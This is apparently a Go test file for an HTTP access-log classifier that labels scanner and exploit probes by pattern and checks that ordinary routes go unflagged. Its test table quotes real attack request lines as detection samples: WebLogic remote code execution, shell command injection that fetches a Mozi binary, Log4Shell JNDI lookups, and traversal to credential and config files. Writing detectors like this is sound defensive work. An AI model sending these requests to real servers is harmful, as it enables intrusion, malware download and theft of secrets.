package httpguard

import (
	"strings"
	"testing"
)

// splitRequestLine splits "METHOD TARGET HTTP/1.1" as an access log shows it.
func splitRequestLine(t testing.TB, line string) (method, target string) {
	t.Helper()
	f := strings.Fields(line)
	if len(f) < 2 {
		t.Fatalf("bad request line %q", line)
	}
	return f[0], f[1]
}

func TestClassifyScanners(t *testing.T) {
	tests := []struct {
		line string
		want Pattern
	}{
		// The incident report's examples.
		{"GET /console/bea-helpsets/%252e%252e%252fconsole.portal?_nfpb=true&_pageLabel=&handle=com.tangosol.coherence.mvel2.sh.ShellSession(%22java.lang.Runtime.getRuntime().exec(%27id%27);%22) HTTP/1.1", PatternWebLogic},
		{"GET /console/css/%252e%252e%252fconsole.portal HTTP/1.1", PatternWebLogic},
		{"POST /wls-wsat/CoordinatorPortType HTTP/1.1", PatternWebLogic},
		{"POST /_async/AsyncResponseService HTTP/1.1", PatternWebLogic},
		{"GET /console/login/LoginForm.jsp HTTP/1.1", PatternWebLogic},
		{"GET /bsguest.cgi?email=x;/usr/sbin/sendmail%20-t%20<%20/etc/hosts HTTP/1.1", PatternCGIInjection},
		{"GET /cgi-bin/test.sh HTTP/1.1", PatternCGIInjection},
		{"GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id) HTTP/1.1", PatternCGIInjection},
		{"POST /setup.cgi?next_file=netgear.cfg&cmd=rm+-rf+/tmp/*;wget+http://x/Mozi.m HTTP/1.1", PatternCGIInjection},
		{"GET /bsguest.cgi?email=x%3B%2Fusr%2Fsbin%2Fsendmail HTTP/1.1", PatternCGIInjection},
		{"ABCD / HTTP/1.1", PatternInvalidMethod},
		{"get / HTTP/1.1", PatternInvalidMethod},
		{"TRACE / HTTP/1.1", PatternInvalidMethod},
		{"CONNECT example.com:443 HTTP/1.1", PatternInvalidMethod},
		{"GET /../../../../etc/hosts HTTP/1.1", PatternPathTraversal},
		{"GET /static/%2e%2e/%2e%2e/etc/hosts HTTP/1.1", PatternPathTraversal},
		{"GET /static/%2E%2E%2F%2E%2E%2Fetc/hosts HTTP/1.1", PatternPathTraversal},
		{"GET /static/%252e%252e%252f%252e%252e%252fetc/hosts HTTP/1.1", PatternPathTraversal},
		{"GET /static/.%2e/.%2e/x HTTP/1.1", PatternPathTraversal},
		{"GET /static/%c0%ae%c0%ae%c0%afx HTTP/1.1", PatternPathTraversal},
		{"GET /static/..%5c..%5cwindows HTTP/1.1", PatternPathTraversal},
		{"GET /app/..;/manager/html HTTP/1.1", PatternPathTraversal},
		{"GET /static/.. HTTP/1.1", PatternPathTraversal},
		{"GET /download?file=../../x HTTP/1.1", PatternPathTraversal},
		{"GET /download?file=%2Fetc%2Fpasswd HTTP/1.1", PatternPathTraversal},
		{"GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1", PatternPathTraversal},
		{"GET /.env HTTP/1.1", PatternDotfile},
		{"GET /.ENV HTTP/1.1", PatternDotfile},
		{"GET /api/.env.production HTTP/1.1", PatternDotfile},
		{"GET /.git/config HTTP/1.1", PatternDotfile},
		{"GET /.git/HEAD HTTP/1.1", PatternDotfile},
		{"GET /.aws/credentials HTTP/1.1", PatternDotfile},
		{"GET /%2eenv HTTP/1.1", PatternDotfile},
		{"GET /.DS_Store HTTP/1.1", PatternDotfile},
		{"GET /wp-login.php HTTP/1.1", PatternWordPress},
		{"GET /wp-admin/ HTTP/1.1", PatternWordPress},
		{"GET /WP-ADMIN/setup-config.php HTTP/1.1", PatternWordPress},
		{"POST /xmlrpc.php HTTP/1.1", PatternWordPress},
		{"GET /blog/wp-includes/wlwmanifest.xml HTTP/1.1", PatternWordPress},
		{"GET /wordpress/ HTTP/1.1", PatternWordPress},
		{"GET /phpMyAdmin/index.php HTTP/1.1", PatternPHP},
		{"GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1", PatternPHP},
		{"GET /index.php?s=/index/think HTTP/1.1", PatternPHP},
		{"GET /info.PHP HTTP/1.1", PatternPHP},
		{"GET /pma/ HTTP/1.1", PatternPHP},
		{"GET /actuator/env HTTP/1.1", PatternAdminPanel},
		{"GET /solr/admin/info/system?wt=json HTTP/1.1", PatternAdminPanel},
		{"GET /manager/html HTTP/1.1", PatternAdminPanel},
		{"POST /boaform/admin/formLogin HTTP/1.1", PatternAdminPanel},
		{"POST /HNAP1/ HTTP/1.1", PatternAdminPanel},
		{"POST /GponForm/diag_Form?images/ HTTP/1.1", PatternAdminPanel},
		{"GET /shell HTTP/1.1", PatternOther},
		{"GET /shell?cd+/tmp;rm+-rf+*;wget+x HTTP/1.1", PatternCGIInjection}, // command injection outranks /shell
		{"GET /owa/auth/logon.aspx HTTP/1.1", PatternOther},
		{"GET /remote/fgt_lang?lang=/../../../..//////////dev/ HTTP/1.1", PatternPathTraversal},
		{"GET /index.jsp HTTP/1.1", PatternOther},
		{"GET /?x=${jndi:ldap://x/a} HTTP/1.1", PatternJNDI},
		{"GET /?x=%24%7Bjndi:ldap://x/a%7D HTTP/1.1", PatternJNDI},
		// Absolute-form targets (proxy probes, ALB logs).
		{"GET http://example.com/.env HTTP/1.1", PatternDotfile},
		{"GET HTTPS://example.com:443/wp-login.php HTTP/1.1", PatternWordPress},
	}
	for _, tt := range tests {
		t.Run(tt.line, func(t *testing.T) {
			m, target := splitRequestLine(t, tt.line)
			if got := Classify(m, target); got != tt.want {
				t.Errorf("Classify(%q, %q) = %q, want %q", m, target, got, tt.want)
			}
		})
	}
}

// legitimateTargets must never be flagged: voicewatch's own routes and
// typical SPA/API paths.
var legitimateTargets = []string{
	"/",
	"/whip",
	"/whip/3f2a9c1e-7b4d-4c2a-9e1f-0a1b2c3d4e5f",
	"/whip/3f2a9c1e-7b4d-4c2a-9e1f-0a1b2c3d4e5f/events",
	"/metrics",
	"/-/healthy",
	"/-/ready",
	"/static/app.js",
	"/static/js/main.3f2a9c1e.chunk.js",
	"/static/css/app.css?v=12",
	"/static/img/logo.svg",
	"/probe?target=stun%3A127.0.0.1%3A3478&module=stun",
	"/probe?target=turn:127.0.0.1:3478?transport=tcp&module=turn_tcp",
	"/probe?target=http%3A%2F%2F127.0.0.1%3A8080%2F-%2Fhealthy&module=http",
	"/favicon.ico",
	"/api/v1/sessions",
	"/api/v1/sessions/42/events?since=2025-01-01T00:00:00Z",
	"/api/v1/search?q=wait...",
	"/health",
	"/healthz",
	"/ws",
	"/robots.txt",
	"/.well-known/security.txt",
	"/docs/getting-started.html",
	"/assets/index-BxK2.js",
	"/api/v1/consoles",
	"/api/v1/shells",
	"/wpt/results",
	"/login?next=%2Fdashboard",
	"*",
	"",
	"http://voice.example.com/whip",
	"http://voice.example.com",
}

func TestClassifyLegitimate(t *testing.T) {
	methods := []string{"", "GET", "HEAD", "POST", "PATCH", "DELETE", "OPTIONS", "PUT"}
	for _, target := range legitimateTargets {
		t.Run(target, func(t *testing.T) {
			for _, m := range methods {
				if got := Classify(m, target); got != PatternNone {
					t.Errorf("Classify(%q, %q) = %q, want legitimate", m, target, got)
				}
			}
		})
	}
}

func TestClassifyEmptyMethodIsNotSuspicious(t *testing.T) {
	if got := Classify("", "/whip"); got != PatternNone {
		t.Fatalf(`Classify("", "/whip") = %q, want ""`, got)
	}
	if got := Classify("", "/.env"); got != PatternDotfile {
		t.Fatalf(`Classify("", "/.env") = %q, want %q`, got, PatternDotfile)
	}
}

func TestKnownMethod(t *testing.T) {
	tests := []struct {
		method string
		want   bool
	}{
		{"GET", true}, {"HEAD", true}, {"POST", true}, {"PUT", true},
		{"PATCH", true}, {"DELETE", true}, {"OPTIONS", true},
		{"ABCD", false}, {"get", false}, {"TRACE", false}, {"CONNECT", false},
		{"PROPFIND", false}, {"", false},
	}
	for _, tt := range tests {
		t.Run(tt.method, func(t *testing.T) {
			if got := KnownMethod(tt.method); got != tt.want {
				t.Errorf("KnownMethod(%q) = %v, want %v", tt.method, got, tt.want)
			}
		})
	}
}

func TestPatternsAreDistinctAndNonEmpty(t *testing.T) {
	for i, p := range patterns {
		if byRank[i] != p {
			t.Fatalf("byRank[%d] = %q, want %q", i, byRank[i], p)
		}
	}
	seen := map[Pattern]bool{}
	for _, p := range Patterns() {
		if p == PatternNone || seen[p] {
			t.Errorf("Patterns() has empty or duplicate %q", p)
		}
		seen[p] = true
	}
	if len(seen) != 16 {
		t.Errorf("Patterns() has %d values, want 16", len(seen))
	}
	ps := Patterns()
	ps[0] = "mutated"
	if Patterns()[0] == "mutated" {
		t.Error("Patterns() returns shared storage")
	}
}

func TestClassifyDoesNotAllocate(t *testing.T) {
	for _, line := range benchCorpus {
		m, target := splitRequestLine(t, line)
		if n := testing.AllocsPerRun(10, func() { Classify(m, target) }); n != 0 {
			t.Errorf("Classify(%q, %q) allocates %v times", m, target, n)
		}
	}
}
